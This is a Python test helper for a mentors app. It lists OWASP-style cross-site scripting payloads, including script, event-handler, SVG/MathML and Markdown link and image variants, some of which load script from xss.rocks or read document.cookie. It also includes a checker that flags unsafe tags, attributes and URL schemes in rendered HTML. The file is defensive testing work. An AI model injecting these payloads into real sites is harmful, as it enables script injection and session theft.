"""Script-injection payloads for every place candidate or mentor text is rendered.

In the style of the OWASP XSS filter-evasion cheat sheet, plus Markdown's own
ways in (links, autolinks, reference links, images, attribute syntax, code).
Reused by the comment tests of the mentors app (issue 6): feed each payload
to the field, fetch the page, and call ``assert_safe_html`` on the part of
the page the text is rendered into (or on the whole page).
"""

import re
from html.parser import HTMLParser

XSS_PAYLOADS = [
    # --- <script>, plain and disguised --------------------------------------
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<script src=//xss.rocks/xss.js></script>",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    # --- <img> and event handlers -------------------------------------------
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<img src=x onerror=alert(1)//",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="x` `onerror=alert(1)">',
    '<img src="x" onerror="alert(1)"',
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1) <",
    '<img src="data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="http://example.org/x.png" style="display:none">',
    "<isindex type=image src=1 onerror=alert(1)>",
    # --- <svg>, <math> and mutation tricks ----------------------------------
    "<svg onload=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">'
    "CLICKME</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # --- other tags ------------------------------------------------------------
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html '
    'base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=\"javascript:alert('XSS');//\">",
    '<div onclick="alert(1)">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.rocks/xss.htc">'
    "<xss:xss>XSS</xss:xss></HTML>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    # --- raw HTML links -------------------------------------------------------
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<a href="#" onclick="alert(1)//">',
    "<a href=javascript:alert(1)>",
    '<a href="javascript:alert(1)" rel="opener" target="_blank">x</a>',
    # --- text that only looks like markup (must stay text) --------------------
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "{{ 7*7 }} {% debug %} ${alert(1)}",
    # --- Markdown inline links ------------------------------------------------
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    "[x](javascript://%0aalert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](javascript:alert(document.domain)//http://example.org)",
    "[x](javascript:alert(1)",
    '[x](http://example.org "a\\" onclick=\\"alert(1)")',
    "[x](http://example.org'onmouseover='alert(1))",
    '[x](http://example.org/"onmouseover="alert(1))',
    "[x](http://example.org/ \"x'onmouseover='alert(1)\")",
    "[<img src=x onerror=alert(1)>](http://example.org)",
    "*[x](javascript:alert(1))*",
    "**<img src=x onerror=alert(1)>**",
    # --- autolinks --------------------------------------------------------------
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<http://example.org" onmouseover="alert(1)>',
    '<mailto:a@example.org?subject="><script>alert(1)</script>>',
    "<a@example.org>",
    # --- reference links --------------------------------------------------------
    "[a][1]\n\n[1]: javascript:alert(1)",
    '[a][1]\n\n[1]: JaVaScRiPt:alert(1) "t"',
    "[a]\n\n[a]: data:text/html,<script>alert(1)</script>",
    "[a][b]\n\n[b]: <javascript:alert(1)>",
    "[a][c]\n\n[c]: vbscript:msgbox(1)",
    # --- images ---------------------------------------------------------------
    "![a](javascript:alert(1))",
    '![a" onerror="alert(1)](http://example.org/x.png)',
    '![a](http://example.org/x.png "title\\" onerror=\\"alert(1))',
    '![a](x.png" onerror="alert(1))',
    "![<script>alert(1)</script>](x.png)",
    "![a][img]\n\n[img]: javascript:alert(1)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](http://example.org/x.png =100x200 onerror=alert(1))",
    # --- attribute-list syntax (extension not enabled: must stay text) ---------
    "[x](http://example.org){onclick=alert(1)}",
    "# Heading {onclick=alert(1)}",
    'Paragraph text\n{: onclick="alert(1)" style="color:red" }',
    "*emphasis*{: .x onmouseover=alert(1) }",
    # --- code -------------------------------------------------------------------
    "```html\n<script>alert(1)</script>\n```",
    "```\n<img src=x onerror=alert(1)>\n```",
    "~~~ {onclick=alert(1)}\ncode\n~~~",
    '```javascript" onmouseover="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    # --- nesting and block structure -----------------------------------------
    "[[x](javascript:alert(1))](http://example.org)",
    "[x]([y](javascript:alert(1)))",
    "[x](http://example.org/[javascript:alert(1)])",
    "[![img](javascript:alert(1))](javascript:alert(2))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "Note[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    'Note[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: note',
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- <iframe src=javascript:alert(1)>\n- item",
    "1. <svg onload=alert(1)>",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "svg", "style", "math",
    "form", "input", "button", "select", "textarea", "base", "link", "meta", "applet",
}  # fmt: skip
ALLOWED_SCHEMES = {"http", "https", "mailto"}
LINK_REL = {"nofollow", "noopener", "noreferrer"}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
# Browsers drop these anywhere in a URL, and C0 controls and spaces at its ends.
_URL_NOISE = re.compile(r"[\t\n\r]")


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see, or None for a relative URL."""
    cleaned = _URL_NOISE.sub("", url).strip("".join(chr(c) for c in range(0x21)))
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def tag_counts(html: str) -> dict[str, int]:
    """How many of each tag ``html`` holds."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    counts: dict[str, int] = {}
    for tag, _ in parser.tags:
        counts[tag] = counts.get(tag, 0) + 1
    return counts


def unsafe_parts(html: str, *, forbidden_tags=FORBIDDEN_TAGS, check_rel=True) -> list[str]:
    """Everything in ``html`` that could run script or restyle the page
    (and, with ``check_rel``, links that would pass on the reader's page)."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    problems = []
    for tag, attrs in parser.tags:
        if tag in forbidden_tags:
            problems.append(f"<{tag}> tag")
        names = {name for name, _ in attrs}
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"{name} attribute on <{tag}>")
            if name == "style":
                problems.append(f"style attribute on <{tag}>")
            if name in ("href", "src", "xlink:href", "action", "formaction", "background"):
                scheme = url_scheme(value or "")
                if scheme is not None and scheme not in ALLOWED_SCHEMES:
                    problems.append(f"{scheme}: in {name} of <{tag}>")
        if check_rel and tag == "a" and "href" in names:
            rel = set((dict(attrs).get("rel") or "").split())
            if not LINK_REL.issubset(rel):
                problems.append(f"<a> without rel={' '.join(sorted(LINK_REL))}")
    return problems


def assert_safe_html(html: str, **kwargs) -> None:
    problems = unsafe_parts(html, **kwargs)
    assert not problems, f"unsafe HTML: {problems}\n{html}"
